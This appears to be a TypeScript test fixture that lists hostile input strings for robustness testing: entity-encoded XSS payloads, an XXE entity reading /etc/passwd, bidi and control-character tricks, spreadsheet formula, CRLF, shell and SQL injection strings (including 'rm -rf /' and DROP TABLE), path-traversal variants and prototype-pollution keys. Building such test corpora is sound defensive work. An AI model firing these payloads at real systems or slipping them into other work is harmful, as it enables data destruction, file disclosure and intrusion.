import { type Attack, of, RUN } from './attack.ts';

const entities = of('entity', [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  `&amp;lt;script&amp;gt;${RUN}`,
  `&lt&semi;script&gt;`,
  `&quot; onmouseover=&quot;${RUN}`,
  `&#34; onmouseover=&#34;${RUN}`,
  `&xxe;`,
  `%xxe;`,
  `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;`,
  `&#0;&#xD800;&#x110000;&#xFFFE;`,
  `&#x202e;txt.exe`,
  `&nbsp;&zwj;&ZeroWidthSpace;&shy;`,
  `&NotEqualTilde;&fjlig;&AMP&LT`,
]);

const text = of('text', [
  '标题\u202e层层反转\u202c',
  '\u202a\u202b\u202d\u202e没有收尾',
  '\u2066甲\u2067乙\u2068丙',
  '\u2069\u2069\u202c\u202c甲',
  '国\u200b家\u200c版\u200d权\u2060局\ufeff',
  '甲\u00ad乙\u180e丙\u3164丁',
  '甲\u{e0041}\u{e0042}\u{e007f}乙',
  '甲\0乙\u0007\u0008\u000b\u001b[31m丙\u007f\u0085\u009b',
  '\u2028甲\u2029乙',
  '\ud800甲\udfff',
  '\uffff\ufffe\ufdd0甲',
  `甲${'\u0301'.repeat(200)}`,
  '﷽'.repeat(40),
  'ﷺ'.repeat(59),
  '=cmd|"/C calc"!A0',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '甲\r\nBcc: b@evil.example',
  '甲%0d%0aSet-Cookie:%20a=b',
  '%s%n%x%d',
  "$&$1$`$'$$",
  '`rm -rf /`; $(touch /tmp/ran)',
  '| touch /tmp/ran',
  "' OR 1=1; DROP TABLE issues; --",
]);

const paths = of('path', [
  '../../etc/passwd',
  '../../../../../../../../etc/passwd',
  '/../../../../etc/passwd',
  '/issues/../../../../etc/passwd',
  '/issues/..%2f..%2f..%2f..%2fetc/passwd',
  '/issues/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
  '/issues/..\\..\\..\\etc\\passwd',
  '/issues/....//....//etc/passwd',
  '/issues/%252e%252e%252fetc/passwd',
  '/issues/..;/etc/passwd',
  '/issues/%c0%ae%c0%ae/etc/passwd',
  '/issues/.%00/etc/passwd',
  '/etc/passwd%00.png',
  'C:\\Windows\\win.ini',
  'CON',
  '.htaccess',
  '..',
  '.',
  '/',
  'index.html',
  '_headers',
  `${'a/'.repeat(120)}a`,
]);

const keys = of('prototype', [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
  'valueOf',
  '__proto__.polluted',
  'constructor.prototype.polluted',
]);

/** Strings without markup that break programs which do not expect them. */
export const texts: readonly Attack[] = [...entities, ...text, ...paths, ...keys];
